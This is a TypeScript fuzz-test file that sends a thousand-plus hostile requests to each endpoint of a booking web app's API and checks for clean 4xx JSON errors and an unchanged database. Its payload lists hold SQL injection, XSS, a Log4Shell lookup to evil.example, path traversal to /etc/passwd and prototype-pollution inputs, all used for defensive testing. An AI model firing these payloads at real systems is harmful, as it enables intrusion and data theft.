// Hostile input, generated: at least 1,000 malformed or hostile requests per endpoint. Every answer
// must be a 4xx JSON error (never 5xx, never HTML), and the database must be unchanged.
// The generator is seeded: FUZZ_SEED=<n> replays a run (the seed is printed).

import { randomUUID } from 'node:crypto';
import * as v from 'valibot';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { passwordChangeSchema, staffCreateSchema, staffPatchSchema, staffSelfPatchSchema } from '../../server/http/api-schemas';
import {
  customerSignupSchema,
  pullRequestSchema,
  pushRequestSchema,
  ATTACHMENT_CONTENT_TYPES,
} from '../../src/domain/protocol';
import { createInput } from '../../server/sync/record-input';
import { normalizePublicBooking } from '../../src/domain/public-booking';
import { SAMPLE_IDS } from '../../src/domain/sample-data';
import { bookingFields, checksum, mutation, startTestServer, tourFields, type OpenDb, type RequestOptions, type TestServer } from './harness';
import { blankTexts } from '../../src/domain/content-lang';

export const PER_ENDPOINT = 1000;

/** mulberry32: small, fast, good enough to drive a fuzzer. */
export function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)] as T;
  return { next, int, pick, chance: (p: number) => next() < p };
}
type Rng = ReturnType<typeof prng>;

const HOSTILE_STRINGS = [
  '',
  ' ',
  "'; drop table bookings; --",
  "' OR '1'='1",
  '1; select pg_sleep(10); --',
  '$1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff x',
  '\u202e\u0644\u0627',
  '😀'.repeat(50),
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  '0x1F',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '2026-02-30',
  '0000-01-01',
  '24:00',
  'not-a-uuid',
  '00000000-0000-0000-0000-00000000000g',
  '2026-11-21T09:30:00.000Z-zzzz-9f3c2a7b1d4e6f80',
  '9999-12-31T23:59:59.999Z-ffff-ffffffffffffffff',
  'x'.repeat(5000),
];
const HOSTILE_NUMBERS = [0, -0, -1, 1.5, -1.5, 1e308, -1e308, 2 ** 53, 2 ** 63, Number.MAX_SAFE_INTEGER + 2, 1e-300, 3.000001, 100_000_001];

function deep(depth: number, rng: Rng): unknown {
  let value: unknown = rng.pick(['x', 1, null]);
  for (let i = 0; i < depth; i++) value = rng.chance(0.5) ? [value] : { a: value };
  return value;
}

/** Any JSON value of a different kind than `like` (so never valid where `like` is). */
function wrongType(like: unknown, rng: Rng): unknown {
  const kinds: (() => unknown)[] = [
    () => rng.pick(HOSTILE_STRINGS.filter((s) => s !== '')),
    () => rng.pick(HOSTILE_NUMBERS),
    () => rng.chance(0.5),
    () => null,
    () => [rng.pick(HOSTILE_STRINGS)],
    () => ({ [rng.pick(['__proto__', 'constructor', 'toString', 'a'])]: rng.pick(HOSTILE_STRINGS) }),
    () => deep(40 + rng.int(60), rng),
  ];
  const kindOf = (value: unknown) => (value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value);
  for (;;) {
    const value = rng.pick(kinds)();
    if (kindOf(value) !== kindOf(like)) return value;
  }
}

const BROKEN_JSON = [
  '',
  '{',
  '{"a":}',
  "{'a': 1}",
  '{"a": 1,}',
  '[1, 2',
  'NaN',
  '{"limit": NaN}',
  '{"limit": Infinity}',
  '{"a": undefined}',
  '\uFEFF{"a": 1}',
  'null null',
  '{"a": "\\x00"}',
  '{"a": "\\ud800"}',
  '{"__proto__": ',
  '<html><body>hi</body></html>',
  "'; drop table bookings; --",
  '{"a": 01}',
  '{"a": .5}',
  '{"a": +1}',
];

export interface FuzzCase {
  method: string;
  path: string;
  options: RequestOptions;
}

/** Body fuzzing of one JSON endpoint: everything a client could send wrong. */
function jsonCases(
  rng: Rng,
  n: number,
  base: () => Record<string, unknown>,
  call: (body: RequestOptions) => { method: string; path: string; options: RequestOptions },
  stillValid: (body: unknown) => boolean,
  jsonLimit: number,
): FuzzCase[] {
  const out: FuzzCase[] = [];
  let big = 0;
  while (out.length < n) {
    const roll = rng.int(100);
    if (roll < 12) {
      let text = rng.pick(BROKEN_JSON);
      if (rng.chance(0.5)) {
        const valid = JSON.stringify(base());
        text = valid.slice(0, rng.int(valid.length));
        if (text === '') text = '{';
      }
      out.push(call({ raw: text, contentType: 'application/json' }));
      continue;
    }
    if (roll < 20) {
      const contentType = rng.pick(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/jsonx', 'text/json', null]);
      out.push(call({ raw: JSON.stringify(base()), contentType }));
      continue;
    }
    if (roll < 26) {
      out.push(call({ body: rng.pick([[], [base()], 'a string', 42, null, true, deep(200, rng)]) }));
      continue;
    }
    if (roll < 27 && big < 3) {
      big++;
      const body = base();
      const key = rng.pick(Object.keys(body));
      body[key] = 'x'.repeat(jsonLimit + 10);
      out.push(call({ body }));
      continue;
    }
    // Field mutations, at least one that cannot be valid.
    const body = base();
    const keys = Object.keys(body);
    const steps = 1 + rng.int(3);
    for (let i = 0; i < steps; i++) {
      const key = rng.pick(keys);
      switch (rng.int(6)) {
        case 0:
          delete body[key];
          break;
        case 1:
          body[key] = wrongType(body[key], rng);
          break;
        case 2:
          Object.defineProperty(body, rng.pick(['__proto__', 'constructor', 'prototype', 'isAdmin', 'role', 'rev', 'id ']), {
            value: rng.chance(0.5) ? { polluted: true, role: 'admin' } : rng.pick(HOSTILE_STRINGS),
            enumerable: true,
            configurable: true,
            writable: true,
          });
          break;
        case 3:
          body[key] = typeof body[key] === 'string' ? `${String(body[key])}${'é'.repeat(6000)}` : wrongType(body[key], rng);
          break;
        case 4:
          body[key] = rng.pick(HOSTILE_STRINGS);
          break;
        default:
          body[key] = typeof body[key] === 'number' ? rng.pick(HOSTILE_NUMBERS) : wrongType(body[key], rng);
      }
    }
    if (stillValid(body)) continue;
    out.push(call({ body }));
  }
  return out;
}

const valid = (schema: v.GenericSchema) => (body: unknown) => v.safeParse(schema, body).success;

/** Whether the server's own record checks would take these fields (then the body is no use here). */
function accepted(table: 'bookings' | 'contacts' | 'tours' | 'posts', id: unknown, fields: Record<string, unknown>): boolean {
  if (typeof id !== 'string' || !/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(id)) return false;
  try {
    createInput(table, id, fields, new Date());
    return true;
  } catch {
    return false;
  }
}

function publicValid(table: 'bookings' | 'contacts') {
  return (body: unknown) => {
    if (!body || typeof body !== 'object' || Array.isArray(body)) return false;
    // The server reads a visitor's booking as the wizard's draft first (names, defaults): so does this.
    const read = table === 'bookings' ? normalizePublicBooking(body as Record<string, unknown>) : (body as Record<string, unknown>);
    const fields = Object.fromEntries(Object.entries(read).filter(([key]) => key !== 'id'));
    if (table === 'bookings') Object.assign(fields, { status: 'pending', source: 'public', totalPrice: '0.00', vatKind: 'transport' });
    return accepted(table, (body as { id?: unknown }).id, fields);
  };
}

function formValid(table: 'tours' | 'posts', defaults: Record<string, unknown>) {
  return (body: unknown) => {
    if (!body || typeof body !== 'object' || Array.isArray(body)) return false;
    const { id = randomUUID() } = body as { id?: unknown };
    const start: Record<string, unknown> = { ...blankTexts(table), ...defaults };
    const fields = Object.fromEntries(Object.entries(start).concat(Object.entries(body).filter(([key]) => key !== 'id')));
    return accepted(table, id, fields);
  };
}

function pushAcknowledgeable(body: unknown): boolean {
  if (!v.safeParse(pushRequestSchema, body).success) return false;
  return ((body as { mutations: unknown[] }).mutations ?? []).every((m) => {
    const o = (m ?? {}) as Record<string, unknown>;
    return typeof o.id === 'string' && /^[0-9a-f-]{36}$/i.test(o.id) && Number.isSafeInteger(o.seq) && (o.seq as number) >= 1;
  });
}

const HOSTILE_PATH_IDS = [
  'not-a-uuid',
  "1'; drop table staff; --",
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%E0%A4%A',
  '<script>',
  '00000000-0000-0000-0000-00000000000g',
  '-1',
  'NaN',
  '9'.repeat(400),
  '%2e%2e',
];

const HOSTILE_AUTH = [
  'Bearer',
  'Bearer ',
  'Bearer x',
  `Bearer ${'A'.repeat(43)}`,
  `Bearer ${'A'.repeat(42)}=`,
  "Bearer ' or 1=1 --",
  `Bearer ${'x'.repeat(5000)}`,
  'Basic YWRtaW46YWRtaW4=',
  'Token abc',
  'bearer\tabc def',
  'Bearer \u00e9\u00e9',
  `Bearer ${randomUUID()}`,
];

export function describeFuzz(engine: string, open: OpenDb) {
  describe(`hostile input on ${engine}`, () => {
    const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);
    let s: TestServer;
    let admin = '';
    let driver = '';
    let driverId = '';
    let before: Record<string, string> = {};

    beforeAll(async () => {
      console.log(`fuzz seed on ${engine}: ${seed} (FUZZ_SEED=${seed} replays it)`);
      s = await startTestServer(open, { limits: { publicRequestsPerMinute: 1e9, loginFailuresPerMinute: 1e9 } });
      admin = await s.adminToken();
      const d = await s.makeStaff('driver');
      driver = d.token;
      driverId = d.id;
      // A conflict, so that the conflicts endpoints have something to refuse to touch.
      const recordId = SAMPLE_IDS.bookings.lucasDubois;
      await s.request('POST', '/api/sync/push', { token: admin, body: { clientId: randomUUID(), schemaVersion: 1, mutations: [mutation({ seq: 1, table: 'bookings', recordId, op: 'patch', hlc: s.hlc(0, 'eeeeeeeeeeeeeeee'), fields: { status: 'confirmed' } })] } });
      await s.request('POST', '/api/sync/push', { token: admin, body: { clientId: randomUUID(), schemaVersion: 1, mutations: [mutation({ seq: 1, table: 'bookings', recordId, op: 'patch', hlc: s.hlc(-5000, 'ffffffffffffffff'), fields: { status: 'cancelled' } })] } });
      before = await checksum(s.db);
    });
    afterAll(async () => {
      await s?.close();
    });

    const jsonLimit = 1024 * 1024;
    const { totalPrice: _p, status: _s, source: _o, vatKind: _v, ...visitorBooking } = bookingFields();
    const { rating: _r, reviewCount: _c, ...tourForm } = tourFields();

    const endpoints: { name: string; cases: (rng: Rng) => FuzzCase[] }[] = [
      {
        name: 'POST /api/auth/login',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ username: 'admin', password: 'wrong-password' }), (o) => ({ method: 'POST', path: '/api/auth/login', options: o }), () => false, jsonLimit),
      },
      {
        name: 'POST /api/auth/password',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ currentPassword: 'not-the-password', newPassword: 'a-new-password' }), (o) => ({ method: 'POST', path: '/api/auth/password', options: { ...o, token: admin } }), (b) => valid(passwordChangeSchema)(b) && (b as { currentPassword: string }).currentPassword === 'Prestige2026!', jsonLimit),
      },
      {
        name: 'POST /api/staff',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ username: `u${rng.int(1e9)}`, name: 'N', role: 'driver', password: 'password-123' }), (o) => ({ method: 'POST', path: '/api/staff', options: { ...o, token: admin } }), valid(staffCreateSchema), jsonLimit),
      },
      {
        name: 'PATCH /api/staff/:id',
        cases: (rng) => [
          ...jsonCases(rng, PER_ENDPOINT - 100, () => ({ name: 'New name', role: 'driver', disabled: false }), (o) => ({ method: 'PATCH', path: `/api/staff/${driverId}`, options: { ...o, token: admin } }), valid(staffPatchSchema), jsonLimit),
          ...Array.from({ length: 100 }, () => ({ method: 'PATCH', path: `/api/staff/${rng.chance(0.5) ? randomUUID() : rng.pick(HOSTILE_PATH_IDS)}`, options: { body: { name: 'x' }, token: admin } })),
        ],
      },
      {
        name: 'PATCH /api/staff/me',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ name: 'Me', phone: '+33 6 00 00 00 00' }), (o) => ({ method: 'PATCH', path: '/api/staff/me', options: { ...o, token: driver } }), valid(staffSelfPatchSchema), jsonLimit),
      },
      {
        name: 'DELETE /api/staff/:id',
        cases: (rng) => Array.from({ length: PER_ENDPOINT }, () => ({ method: 'DELETE', path: `/api/staff/${rng.chance(0.3) ? randomUUID() : rng.pick(HOSTILE_PATH_IDS)}`, options: { token: admin } })),
      },
      {
        name: 'POST /api/sync/push',
        cases: (rng) =>
          jsonCases(
            rng,
            PER_ENDPOINT,
            () => ({
              clientId: randomUUID(),
              schemaVersion: 1,
              mutations: [
                mutation({ seq: 1, table: 'bookings', recordId: randomUUID(), op: 'create', hlc: s.hlc(), fields: bookingFields() }),
                rng.chance(0.5) ? { id: rng.pick(HOSTILE_STRINGS), seq: rng.pick([...HOSTILE_NUMBERS, 1]) } : { seq: 2, table: 'cars' },
              ],
            }),
            (o) => ({ method: 'POST', path: '/api/sync/push', options: { ...o, token: admin } }),
            pushAcknowledgeable,
            jsonLimit,
          ),
      },
      {
        name: 'POST /api/sync/pull',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ cursor: { v: 3 }, limit: 10 }), (o) => ({ method: 'POST', path: '/api/sync/pull', options: { ...o, token: rng.chance(0.5) ? admin : undefined } }), valid(pullRequestSchema), jsonLimit),
      },
      {
        name: 'POST /api/sync/conflicts/:id/resolve',
        cases: (rng) => [
          ...jsonCases(rng, PER_ENDPOINT - 200, () => ({ keep: 'other' }), (o) => ({ method: 'POST', path: `/api/sync/conflicts/${randomUUID()}/resolve`, options: { ...o, token: admin } }), () => false, jsonLimit),
          ...Array.from({ length: 200 }, () => ({ method: 'POST', path: `/api/sync/conflicts/${rng.pick(HOSTILE_PATH_IDS)}/resolve`, options: { body: { keep: rng.pick(['other', 'current', 'both', '']) }, token: admin } })),
        ],
      },
      {
        name: 'POST /api/public/bookings',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ id: randomUUID(), ...visitorBooking, vehicleId: SAMPLE_IDS.cars.eClass }), (o) => ({ method: 'POST', path: '/api/public/bookings', options: o }), publicValid('bookings'), jsonLimit),
      },
      {
        name: 'POST /api/public/contacts',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ id: randomUUID(), firstName: 'A', lastName: 'B', email: 'a@b.fr', phone: '+33 1 00 00 00 00', message: 'Hi' }), (o) => ({ method: 'POST', path: '/api/public/contacts', options: o }), publicValid('contacts'), jsonLimit),
      },
      {
        name: 'GET /api/public/bookings/:id',
        cases: (rng) =>
          Array.from({ length: PER_ENDPOINT }, () => {
            const id = rng.chance(0.4) ? SAMPLE_IDS.bookings.sophieMartin : rng.chance(0.5) ? randomUUID() : rng.pick(HOSTILE_PATH_IDS);
            const receipt = safeEncode(rng.pick([...HOSTILE_STRINGS, 'x'.repeat(300)]));
            return { method: 'GET', path: `/api/public/bookings/${id}${rng.chance(0.9) ? `?receipt=${receipt}` : ''}`, options: {} };
          }),
      },
      {
        name: 'POST /api/customers/signup',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ firstName: 'A', lastName: 'B', email: `x${rng.int(1e9)}@example.com`, password: 'password-123' }), (o) => ({ method: 'POST', path: '/api/customers/signup', options: o }), valid(customerSignupSchema), jsonLimit),
      },
      {
        name: 'POST /api/customers/login',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ email: 'nobody@example.com', password: 'password-123' }), (o) => ({ method: 'POST', path: '/api/customers/login', options: o }), () => false, jsonLimit),
      },
      {
        name: 'POST /api/tours',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ ...tourForm }), (o) => ({ method: 'POST', path: '/api/tours', options: { ...o, token: admin } }), formValid('tours', { rating: '5.0', reviewCount: 0, featured: false }), jsonLimit),
      },
      {
        name: 'POST /api/blog-posts',
        cases: (rng) => jsonCases(rng, PER_ENDPOINT, () => ({ titleFr: 'T', excerptFr: 'E', contentFr: 'C', category: 'services', readTimeFr: '1 min', published: true }), (o) => ({ method: 'POST', path: '/api/blog-posts', options: { ...o, token: admin } }), formValid('posts', { published: false }), jsonLimit),
      },
      {
        name: 'POST /api/attachments',
        cases: (rng) => {
          const out: FuzzCase[] = [];
          let big = 0;
          while (out.length < PER_ENDPOINT) {
            const type = rng.pick([...ATTACHMENT_CONTENT_TYPES, 'image/svg+xml', 'text/html', 'application/json', 'image/png; charset=utf-8', '', 'image/x-icon']);
            let bytes: Uint8Array<ArrayBuffer>;
            if (big < 3) {
              big++;
              bytes = new Uint8Array(5 * 1024 * 1024 + 1 + rng.int(100));
            } else {
              bytes = new Uint8Array(rng.int(64));
              for (let i = 0; i < bytes.length; i++) bytes[i] = rng.int(256);
              if (rng.chance(0.3)) bytes = new TextEncoder().encode(rng.pick(HOSTILE_STRINGS));
            }
            const magic = (t: string) =>
              (t.startsWith('image/png') && bytes[0] === 0x89 && bytes[1] === 0x50) ||
              (t === 'image/jpeg' && bytes[0] === 0xff && bytes[1] === 0xd8 && bytes[2] === 0xff) ||
              (t === 'image/gif' && bytes[0] === 0x47) ||
              (t === 'image/webp' && bytes[0] === 0x52);
            if (magic(type) && bytes.length > 0 && bytes.length <= 5 * 1024 * 1024) continue;
            out.push({ method: 'POST', path: '/api/attachments', options: { raw: bytes, contentType: type || null, token: rng.chance(0.8) ? admin : driver } });
          }
          return out;
        },
      },
      {
        name: 'GET /api/attachments/:id',
        cases: (rng) => Array.from({ length: PER_ENDPOINT }, () => ({ method: 'GET', path: `/api/attachments/${rng.chance(0.3) ? randomUUID() : rng.pick(HOSTILE_PATH_IDS)}`, options: {} })),
      },
      {
        name: 'session endpoints with hostile Authorization headers',
        cases: (rng) =>
          Array.from({ length: PER_ENDPOINT }, () => {
            const [method, path] = rng.pick([
              ['GET', '/api/auth/me'],
              ['GET', '/api/staff'],
              ['GET', '/api/staff/me'],
              ['GET', '/api/sync/conflicts'],
              ['GET', '/api/customers/me/bookings'],
              ['GET', '/api/cars'],
              ['GET', '/api/blog-posts'],
              ['POST', '/api/auth/logout'],
              ['POST', '/api/customers/logout'],
            ] as const);
            const header = rng.pick(HOSTILE_AUTH);
            // A Bearer token, even a stale one, logs out fine: only malformed headers there.
            const authorization = path.endsWith('logout') ? header.replace(/^Bearer\s+\S.*$/i, 'Basic x') : header;
            return { method, path, options: { headers: { Authorization: authorization } } };
          }),
      },
    ];

    it.each(endpoints.map((e) => [e.name, e] as const))('%s: 4xx JSON for every hostile request', async (_name, endpoint) => {
      const rng = prng(seed ^ hash(endpoint.name));
      const cases = endpoint.cases(rng);
      expect(cases.length).toBeGreaterThanOrEqual(PER_ENDPOINT);
      const seen = new Map<number, number>();
      for (const c of cases) {
        const res = await s.request(c.method, c.path, c.options);
        seen.set(res.status, (seen.get(res.status) ?? 0) + 1);
        const where = `${c.method} ${c.path} ${JSON.stringify(c.options).slice(0, 300)} -> ${res.status} ${res.text.slice(0, 300)}`;
        if (res.status < 400 || res.status >= 500) expect.fail(`not a 4xx: ${where}`);
        expect(res.headers.get('Content-Type'), where).toMatch(/^application\/json/);
        expect(typeof res.body?.error, where).toBe('string');
        expect(res.text, where).not.toMatch(/<html|\bat .+\.ts:\d+|stack/i);
      }
      console.log(`${endpoint.name}: ${cases.length} requests, statuses ${JSON.stringify(Object.fromEntries(seen))}`);
      // A thousand requests through the whole stack: a throughput test, so a busy machine gets time.
    }, 180_000);

    it('left every table as it was (rate limits and sessions aside)', async () => {
      expect(await checksum(s.db)).toEqual(before);
      for (const table of ['bookings', 'staff', 'sync_clock']) {
        expect((await s.db.query(`select count(*)::int as n from ${table}`)).rows[0]).toMatchObject({ n: expect.any(Number) });
      }
    });

    it('refuses hostile mutations inside a valid push one by one, and stores hostile text verbatim in valid ones', async () => {
      const rng = prng(seed);
      const clientId = randomUUID();
      const tables = before;
      const mutations = Array.from({ length: 300 }, (_, i) => {
        const base = mutation({ seq: i + 1, table: 'bookings', recordId: rng.chance(0.5) ? SAMPLE_IDS.bookings.sophieMartin : randomUUID(), op: rng.pick(['create', 'patch'] as const), hlc: s.hlc(), fields: bookingFields() });
        const m: Record<string, unknown> = { ...base };
        switch (rng.int(8)) {
          case 7:
            m[rng.pick(['a\u0000b', '\ud800', 'k'.repeat(3000), '😀'.repeat(400)])] = 1;
            break;
          case 0:
            m.table = rng.pick(['staff', 'sessions', 'pg_catalog.pg_user', "bookings; drop table cars", '__proto__', 'settings ']);
            break;
          case 1:
            m.hlc = rng.pick([...HOSTILE_STRINGS, s.hlc(3 * 3600 * 1000)]);
            break;
          case 2:
            m.recordId = rng.pick(HOSTILE_STRINGS);
            break;
          case 3:
            m.fields = { ...(m.fields as object), [rng.pick(['customerId', 'version', 'deleted', 'field_hlc', '__proto__ '])]: true };
            break;
          case 4:
            m.fields = { ...(m.fields as object), passengers: rng.pick(HOSTILE_NUMBERS.filter((n) => !(Number.isInteger(n) && n >= 1 && n <= 99))) };
            break;
          case 5:
            m.fields = { ...(m.fields as object), firstName: rng.pick(['\u0000', 'a\ud800', '']) };
            break;
          default:
            m.op = rng.pick(['upsert', 'drop', 'DELETE', '']);
        }
        return m;
      });
      const res = await s.request('POST', '/api/sync/push', { token: admin, body: { clientId, schemaVersion: 1, mutations } });
      expect(res.status).toBe(200);
      expect(res.body.lastSeq).toBe(300);
      expect(res.body.results.every((r: { status: string }) => r.status === 'rejected')).toBe(true);
      const after = await checksum(s.db);
      for (const table of ['cars', 'tours', 'posts', 'bookings', 'remarks', 'contacts', 'settings', 'staff', 'sync_clock', 'sync_conflicts']) {
        expect(after[table], table).toBe(tables[table]);
      }

      const hostile = ["'; drop table bookings; --", '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '😀 \u202e مرحبا'];
      const recordId = randomUUID();
      const ok = await s.request('POST', '/api/sync/push', {
        token: admin,
        body: {
          clientId,
          schemaVersion: 1,
          mutations: [
            mutation({ seq: 301, table: 'bookings', recordId, op: 'create', hlc: s.hlc(), fields: bookingFields({ firstName: hostile[0], lastName: hostile[1], pickupLocation: hostile[2], specialRequests: hostile[3] }) }),
          ],
        },
      });
      expect(ok.body.results[0].status).toBe('applied');
      const { rows } = await s.db.query('select first_name, last_name, pickup_location, special_requests from bookings where id = $1', [recordId]);
      expect(rows).toEqual([{ first_name: hostile[0], last_name: hostile[1], pickup_location: hostile[2], special_requests: hostile[3] }]);
      expect((await s.db.query('select count(*)::int as n from cars')).rows[0]).toEqual({ n: expect.any(Number) });
    });
  });
}

/** encodeURIComponent, which throws on a lone surrogate: that one goes as its raw UTF-8 bytes. */
function safeEncode(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
}

function hash(text: string): number {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619);
  return h >>> 0;
}
